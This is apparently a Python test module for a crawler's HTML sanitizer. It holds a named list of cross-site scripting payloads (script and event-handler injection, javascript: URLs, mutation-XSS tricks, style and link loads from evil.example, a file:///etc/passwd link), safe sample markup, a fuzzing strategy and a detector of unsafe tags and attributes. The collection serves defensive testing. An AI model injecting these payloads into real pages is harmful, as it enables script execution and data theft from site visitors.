"""Nasty HTML: a grammar of it for hypothesis, known vectors by name, and what must not be left."""

from __future__ import annotations

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

import html5lib
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from crawler.site.newstext import clean_body

FORBIDDEN = frozenset(
    (
        *("script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form"),
        *("input", "button", "select", "textarea", "svg", "math", "meta", "link", "base", "title"),
        *("template", "noscript", "noembed", "noframes", "xmp", "plaintext", "audio", "video"),
        *("source", "track", "canvas", "portal", "marquee", "isindex", "keygen", "dialog", "slot"),
    )
)
LOADING = frozenset(
    ("href", "src", "action", "formaction", "background", "poster", "data", "srcset")
)
FOREIGN = ("{http://www.w3.org/2000/svg}", "{http://www.w3.org/1998/Math/MathML}")

VECTORS: dict[str, str] = {
    "script": "<script>alert(1)</script><p>甲</p>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt><p>甲</p>",
    "script without end": "<p>甲</p><script>alert(1)",
    "script with a slash": "<script/x>alert(1)</script>",
    "upper case": "<ScRiPt>alert(1)</sCrIpT>",
    "handler": '<p onclick="alert(1)">甲</p>',
    "handler with a slash": "<img/onerror=alert(1)/src=x>",
    "handler after a quote": '<img src="x"onerror="alert(1)">',
    "handler in a dropped cell": "<div><td onclick=alert(1)>甲</td></div>",
    "handler on a body": "<body onload=alert(1)><p>甲</p>",
    "javascript": '<a href="javascript:alert(1)">甲</a>',
    "javascript in pieces": '<a href="java\nscript:alert(1)">甲</a>',
    "javascript after spaces": '<a href=" \x01javascript:alert(1)">甲</a>',
    "javascript as entities": '<a href="&#106;avascript&colon;alert(1)">甲</a>',
    "javascript without semicolons": '<a href="&#0000106avascript:alert(1)">甲</a>',
    "vbscript": '<a href="vbscript:x">甲</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">甲</a>',
    "data image": '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "lazy data image": '<img data-src="data:text/html,x">',
    "file link": '<a href="file:///etc/passwd">甲</a>',
    "backslashes": '<a href="\\\\evil.example\\x">甲</a>',
    "iframe": '<iframe src="https://evil.example/"></iframe><p>甲</p>',
    "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="x.swf"></object><embed src="x.swf"><p>甲</p>',
    "form": '<form action="https://evil.example/"><input name=a><button>乙</button></form>',
    "formaction": "<button formaction=javascript:alert(1)>甲</button>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>甲</p>',
    "base": '<base href="https://evil.example/"><p>甲</p>',
    "link": '<link rel=stylesheet href="https://evil.example/x.css"><p>甲</p>',
    "style element": "<style>@import 'https://evil.example/x.css'</style><p>甲</p>",
    "style url": '<p style="background:url(https://evil.example/x)">甲</p>',
    "style escape": '<p style="background:u\\72l(https://evil.example/x)">甲</p>',
    "style image-set": "<p style=\"background:image-set('https://evil.example/x' 1x)\">甲</p>",
    "style overlay": '<p style="position:fixed;top:0;left:0;width:100%;height:100%">甲</p>',
    "style expression": '<p style="width:expression(alert(1))">甲</p>',
    "style comment": '<p style="wid/**/th:1px;exp/**/ression(1)">甲</p>',
    "svg": "<svg><script>alert(1)</script></svg><p>甲</p>",
    "svg onload": "<svg/onload=alert(1)>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text>甲</text></a></svg>',
    "svg animate": "<svg><animate attributeName=href values=javascript:alert(1) /><a></a></svg>",
    "math link": '<math><mtext href="javascript:alert(1)">甲</mtext></math>',
    "mXSS math style": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mXSS form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mXSS svg style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mXSS noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mXSS textarea": '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
    "mXSS title": '<svg><title><p title="</title><img src onerror=alert(1)>">',
    "mXSS xmp": '<xmp><p title="</xmp><img src onerror=alert(1)>">',
    "mXSS comment": "<!--><img src onerror=alert(1)>-->",
    "mXSS comment bang": "<!-- --!><img src onerror=alert(1)>-->",
    "mXSS comment dash": "<!---><img src onerror=alert(1)>--->",
    "mXSS cdata": "<math><![CDATA[]]><img src onerror=alert(1)>]]></math>",
    "mXSS template": "<template><script>alert(1)</script></template>",
    "mXSS annotation": '<math><annotation-xml encoding="text/html"><style><!--</style>'
    "<img src onerror=alert(1)>-->",
    "mXSS backtick": '<p title="`onmouseover=alert(1)">甲</p>',
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><p>甲</p>",
    "doctype": "<!DOCTYPE html><p>甲</p>",
    "html": "<html><head><script>alert(1)</script></head><body><p>甲</p></body></html>",
    "frameset": '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    "plaintext": "<plaintext><p>甲</p>",
    "image": "<image src=x onerror=alert(1)>",
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "end of the layout": "</section></div><div class=wrapper><section><p>甲</p>",
    "unfinished tag": '<p>甲</p><a href="https://evil.example/?',
    "unfinished attribute": "<p>甲</p><img src='https://evil.example/?",
    "NUL": "<scr\0ipt>alert(1)</scr\0ipt><p>甲\0</p>",
    "select": '<select><template><style><!--</template><a rel="--></style></select>'
    '<img id=x src onerror=alert(1)>">',
    "table in svg": "<table><svg><td><style><!--</style><img src onerror=alert(1)>--></table>",
    "srcset": '<img srcset="https://evil.example/x 1x" src="https://a.example/x">',
    "ping": '<a ping="https://evil.example/" href="https://a.example/">甲</a>',
    "contenteditable": "<p contenteditable autofocus tabindex=0>甲</p>",
    "marquee": "<marquee onstart=alert(1)>甲</marquee>",
    "details": "<details open ontoggle=alert(1)>甲</details>",
    "custom element": "<x-甲 onclick=alert(1)>乙</x-甲>",
    "namespaced": '<o:p onclick="alert(1)">甲</o:p>',
}
"""Ways in, by name."""

SAFE: dict[str, str] = {
    "paragraphs": '<p>甲</p>\r\n <p>乙</p><p class="em_media">（文章来源：丙）</p>',
    "chart": '<!-- EM_StockImg_Start --><p style="text-align:center;">'
    '<a href="http://quote.example/unify/r/0.000001" data-code="000001|0|2" class="EmImageRemark"'
    ' target="_blank"><img src="https://webquote.example/GetPic.aspx?nid=0.000001&imageType=k" '
    'border="0" alt="K图 000001_0" data-code="K 000001|0|2" style="border:#d1d1d1 1px solid;" '
    'width="578" height="276" /></a></p><!-- EM_StockImg_End -->',
    "hidden paragraph": '<p style="display:none;height:1px;overflow:hidden;"><br /></p><p>甲</p>',
    "picture": '<center><img src="https://d.example/D1_w800h555.jpg" alt="图片" width="552" '
    'orginial_src="https://d.example/D1_o.jpg" style="border:#d1d1d1 1px solid;" /></center>',
    "stock link": '<p><span id="stock_0.000001"><a href="http://q.example/unify/r/0.000001" '
    'class="keytip" data-code="0,000001">甲</a></span><span id="quote_0.000001"></span></p>',
    "later mention": '<p><span web="1" href="http://q.example/unify/r/0.000001" '
    'class="em_stock_key_common" data-code="0,000001">甲</span></p>',
    "term link": '<p>C<span id="Info.1"><a class="infokey" href="http://d.example/">PPI</a></span>B',
    "image mark": "<!--IMG#0--><p>甲</p>",
    "table": '<table border="1"><tr><td colspan=2>甲</td></tr><tr><td>乙<td>丙</table>',
    "struck": "<p><s>甲</s><strike>乙</strike><del>丙</del></p>",
    "nested source line": '<p class="em_media"><p class="em_media">（文章来源：甲）</p></p>',
    "entities": "<p>&lt;甲&gt; &amp; R&D 1<2 &copy2022</p>",
    "unclosed": "<p>甲<p>乙<div>丙",
    "crossed": "<p><strong>甲</p><p>乙</strong></p>",
    "stray ends": "</p><p>甲</strong></span></p>",
    "text": "甲 < 乙，&lt;丙&gt;",
    "address with a word that begins with on": '<a href="http://a.example/online=1">甲</a>',
    "empty": "",
    "wide spaces": "<p>\u3000甲\xa0\u200b乙</p>",
}
"""Bodies of the source's own constructs: they stay byte for byte."""

_PIECES = (
    *VECTORS.values(),
    *SAFE.values(),
    *("<p>", "</p>", "<div>", "</div>", "<a href='", "'>", '">', "<img src=", " onerror=alert(1) "),
    *("<table>", "<tr>", "<td>", "</table>", "<svg>", "</svg>", "<math>", "<mtext>", "<mglyph>"),
    *("<style>", "</style>", "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<?", "?>", "<!x>", "<"),
    *("<select>", "<option>", "<template>", "</template>", "<noscript>", "</noscript>", "<b", "/"),
    *("javascript:", "&#58;", "&Tab;", "&NewLine;", "&lt;", "&gt;", "&quot;", "&amp;", "&#0;", "`"),
    *("style='", "display:none;", "background:url(x);", "color:red", "title=", "class=x", "hidden"),
    *("<h1>", "<ul><li>", "<foreignObject>", "<desc>", "<title>", "<textarea>", "</textarea>"),
    *("<form>", "<button>", "<nobr>", "<strong>", "</strong>", "<xmp>", "</xmp>", "<plaintext>"),
    *("甲", "乙 丙", "\n", "\r\n", "\t", "\0", "\u3000", "\ud800", "\x0c", '"', "'", "="),
)


def nasty_html() -> st.SearchStrategy[str]:
    """Pieces of every vector, of markup and of anything, in any order, as bodies come in."""
    pieces = st.sampled_from(_PIECES)
    cut = st.builds(lambda piece, end: piece[:end], pieces, st.integers(0, 40))
    anything = st.text(max_size=6)
    return st.lists(st.one_of(pieces, cut, anything), max_size=12).map("".join).map(clean_body)


def _elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Elements with their attributes as two parsers of the HTML standard see them in a page."""
    page = f"<!DOCTYPE html><body><div class=wrapper><section>{html}</section></div>"
    marked = LexborHTMLParser(page)
    assert marked.body is not None
    for node in marked.body.traverse(include_text=False):
        if node.is_element_node:
            yield node.tag or "", {name: value or "" for name, value in node.attributes.items()}
    body = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False).find("body")
    assert body is not None
    for element in body.iter():
        if isinstance(element.tag, str):
            yield element.tag, {str(name): value for name, value in element.attrib.items()}


def unsafe_parts(html: str) -> list[str]:
    """What of a piece of HTML, put into a page, could do more than be read."""
    return sorted({part for tag, found in _elements(html) for part in _unsafe_of(tag, found)})


def _unsafe_of(tag: str, attributes: dict[str, str]) -> Iterator[str]:
    if tag in FORBIDDEN or tag.startswith(FOREIGN):
        yield f"<{tag}>"
    for name, value in attributes.items():
        if name.startswith("on") or name in (
            "srcdoc",
            "srcset",
            "ping",
            "formaction",
            "is",
            "slot",
        ):
            yield f"{tag} {name}"
        address = re.sub(r"[\x00-\x20]", "", value).lower()
        if (name in LOADING or name.endswith("src")) and (
            urlsplit(address.replace("[", "")).scheme not in ("", "http", "https")
            or address.startswith("\\")
        ):
            yield f"{tag} {name}={value}"
        if name == "style" and re.search(r"url|expression|import|position|\\", value, re.I):
            yield f"{tag} style={value}"
